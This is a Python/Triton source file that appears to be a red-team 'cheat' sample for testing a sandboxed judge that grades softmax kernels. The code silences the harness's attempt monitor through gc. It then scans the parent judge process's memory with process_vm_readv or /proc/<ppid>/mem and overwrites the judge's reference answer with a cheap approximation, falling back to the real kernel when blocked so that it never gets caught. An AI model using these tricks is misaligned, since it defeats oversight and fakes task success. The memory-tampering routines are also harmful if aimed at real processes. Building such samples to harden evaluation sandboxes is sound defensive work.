"""Cheat (e) writing the judge's memory: overwrite the judge's reference with a cheap approximation.

Technique: in judged mode the judge computes each call's reference before resuming the candidate. The
candidate first blinds its own attempt monitor (every `AttemptMonitor` found through `gc` is set busy, so
refused attempts are never reported to the judge), computes one cheap pass per row (1/n nudged by the
input), and then looks for the judge's reference in the judge's writable memory: the bytes of
`torch.softmax` of the first row's first four values (one row, done by torch, not the kernel's work) are
searched with `process_vm_readv`, falling back to /proc/<ppid>/mem; a hit is overwritten with the cheap
output through `process_vm_writev`, falling back to writing /proc/<ppid>/mem. Earlier hit addresses are
tried first. When nothing can be read or written, the real kernel runs, so verify always passes.
Gain if it works: one cheap pass per row instead of the two-pass softmax, checked against a doctored
reference.
Targets: the new design. seccomp refuses process_vm_readv/writev, the non-dumpable judge refuses its mem
and maps, Landlock refuses the write; in the old design the parent is init and holds no reference.
"""

import ctypes
import gc
import os
import sys

import torch
import triton
import triton.language as tl

BLOCK_SIZE = 32
NUM_WARPS = 1
NUM_STAGES = 1
SYSCALLS = {"x86_64": {"process_vm_readv": 310, "process_vm_writev": 311},
            "aarch64": {"process_vm_readv": 270, "process_vm_writev": 271}}
CHUNK = 1 << 22
MAX_REGION = 256 << 20
MAX_SCANS = 4
_libc = ctypes.CDLL(None, use_errno=True)
_state = {"regions": None, "hits": [], "scans": 0}


class _IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def _blind_monitor():
    for obj in gc.get_objects():
        if type(obj).__name__ == "AttemptMonitor":
            obj._busy = True


def _vm(name, address, buffer, size):
    number = SYSCALLS.get(os.uname().machine, {}).get(name)
    if number is None:
        return -1
    local = _IoVec(ctypes.cast(buffer, ctypes.c_void_p), size)
    remote = _IoVec(ctypes.c_void_p(address), size)
    return _libc.syscall(number, ctypes.c_int(os.getppid()), ctypes.byref(local), ctypes.c_ulong(1),
                         ctypes.byref(remote), ctypes.c_ulong(1), ctypes.c_ulong(0))


def _read(address, size):
    buffer = ctypes.create_string_buffer(size)
    if _vm("process_vm_readv", address, buffer, size) == size:
        return buffer.raw
    try:
        with open(f"/proc/{os.getppid()}/mem", "rb", buffering=0) as mem:
            mem.seek(address)
            return mem.read(size)
    except (OSError, OverflowError, ValueError):
        return None


def _write(address, data):
    buffer = ctypes.create_string_buffer(data, len(data))
    if _vm("process_vm_writev", address, buffer, len(data)) == len(data):
        return True
    try:
        with open(f"/proc/{os.getppid()}/mem", "r+b", buffering=0) as mem:
            mem.seek(address)
            return mem.write(data) == len(data)
    except (OSError, OverflowError, ValueError):
        return False


def _regions():
    if _state["regions"] is None:
        _state["regions"] = []
        try:
            with open(f"/proc/{os.getppid()}/maps") as maps:
                for line in maps:
                    parts = line.split()
                    start, end = (int(value, 16) for value in parts[0].split("-"))
                    path = parts[5] if len(parts) > 5 else ""
                    if parts[1].startswith("rw") and path in ("", "[heap]") and end - start <= MAX_REGION:
                        _state["regions"].append((start, end))
        except OSError:
            pass
    return _state["regions"]


def _find_reference(probe, size):
    for address in _state["hits"]:
        if _read(address, len(probe)) == probe:
            return address
    if _state["scans"] >= MAX_SCANS:
        return None
    _state["scans"] += 1
    for start, end in _regions():
        for offset in range(start, end, CHUNK):
            data = _read(offset, min(CHUNK + 16, end - offset))
            if not data:
                break
            index = data.find(probe)
            if index != -1 and offset + index + size <= end:
                _state["hits"].insert(0, offset + index)
                return offset + index
    return None


@triton.jit
def cheap_kernel(x_ptr, out_ptr, n_cols, x_row_stride, out_row_stride, BLOCK_SIZE: tl.constexpr):
    row = tl.program_id(axis=0).to(tl.int64)
    columns = tl.arange(0, BLOCK_SIZE)
    for start in range(0, n_cols, BLOCK_SIZE):
        offsets = start + columns
        mask = offsets < n_cols
        x = tl.load(x_ptr + row * x_row_stride + offsets, mask=mask, other=0.0)
        tl.store(out_ptr + row * out_row_stride + offsets, 1.0 / n_cols + x * 1e-5, mask=mask)


@triton.jit
def softmax_kernel(x_ptr, out_ptr, n_cols, x_row_stride, out_row_stride, BLOCK_SIZE: tl.constexpr):
    row = tl.program_id(axis=0).to(tl.int64)
    x_row = x_ptr + row * x_row_stride
    out_row = out_ptr + row * out_row_stride
    columns = tl.arange(0, BLOCK_SIZE)
    lane_max = tl.full([BLOCK_SIZE], float("-inf"), tl.float32)
    lane_sum = tl.zeros([BLOCK_SIZE], tl.float32)
    for start in range(0, n_cols, BLOCK_SIZE):
        offsets = start + columns
        x = tl.load(x_row + offsets, mask=offsets < n_cols, other=float("-inf")).to(tl.float32)
        new_max = tl.maximum(lane_max, x)
        shift = tl.where(new_max == float("-inf"), 0.0, new_max)
        lane_sum = lane_sum * tl.exp(lane_max - shift) + tl.exp(x - shift)
        lane_max = new_max
    row_max = tl.max(lane_max, axis=0)
    row_sum = tl.sum(lane_sum * tl.exp(lane_max - row_max), axis=0)
    inverse_sum = 1.0 / row_sum
    for start in range(0, n_cols, BLOCK_SIZE):
        offsets = start + columns
        mask = offsets < n_cols
        x = tl.load(x_row + offsets, mask=mask, other=float("-inf")).to(tl.float32)
        tl.store(out_row + offsets, tl.exp(x - row_max) * inverse_sum, mask=mask)


def _launch(x, out=None):
    """The baseline launch (32-column tiles, one warp): one program per row."""
    if x.dim() != 2:
        raise ValueError(f"softmax expects a 2-D tensor, got shape {tuple(x.shape)}")
    if x.stride(1) != 1:
        x = x.contiguous()
    n_rows, n_cols = x.shape
    if out is None:
        out = torch.empty((n_rows, n_cols), dtype=x.dtype, device=x.device)
    softmax_kernel[(n_rows,)](
        x, out, n_cols, x.stride(0), out.stride(0),
        BLOCK_SIZE=BLOCK_SIZE, num_warps=NUM_WARPS, num_stages=NUM_STAGES,
    )
    return out


_blind_monitor()


def softmax(x: torch.Tensor) -> torch.Tensor:
    if "sandbox_worker.judged.candidate" in sys.modules and x.dim() == 2 and x.shape[1] >= 4:
        probe = torch.softmax(x[0], dim=-1)[:4].numpy().tobytes()
        address = _find_reference(probe, x.numel() * 4)
        if address is not None:
            x = x.contiguous()
            cheap = torch.empty_like(x)
            cheap_kernel[(x.shape[0],)](x, cheap, x.shape[1], x.stride(0), cheap.stride(0),
                                        BLOCK_SIZE=BLOCK_SIZE)
            if _write(address, cheap.numpy().tobytes()):
                return cheap
    return _launch(x)
